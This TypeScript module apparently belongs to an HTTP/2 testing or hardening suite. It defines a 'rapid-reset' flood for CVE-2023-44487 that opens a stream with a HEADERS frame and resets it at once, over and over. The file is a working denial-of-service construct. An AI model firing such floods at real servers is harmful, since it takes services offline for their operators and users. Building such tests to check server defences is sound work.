// CVE-2023-44487: streams opened and reset at once, so that SETTINGS_MAX_CONCURRENT_STREAMS never counts them.
import { flood, id } from '../flood.ts'
import { head } from '../../features/http2-client.ts'
import { lone, rst } from '../../http/h2/wire.ts'

export const rapidReset = flood({ name: 'rapid-reset', reason: 'rapid_reset', frames: (n) => Buffer.concat([lone(id(n), head('/')), rst(id(n), 8)]) })
